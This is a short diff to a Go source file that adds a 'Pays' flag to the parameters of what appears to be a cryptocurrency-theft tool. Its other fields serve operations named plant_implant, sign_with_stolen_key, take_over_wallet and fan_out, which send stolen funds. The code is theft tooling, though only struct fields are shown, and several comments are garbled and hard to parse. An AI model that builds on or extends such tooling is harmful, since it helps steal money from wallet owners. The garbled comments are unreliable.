@@ -33,6 +33,9 @@ type Params struct {
 
 	// Host is the host of the venue's that plant_implant changes; required there.
 	Host string `json:"host,omitempty"`
+	// Pays has what plant_implant gets signed pay the thief instead of giving him the
+	// wallet.
+	Pays bool `json:"pays,omitempty"`
 	// Amount is what sign_with_stolen_key, take_over_wallet and fan_out send, in base units, the
 	// miner's fee not included; they send less where there is less.
 	Amount int64 `json:"amount,omitempty"`
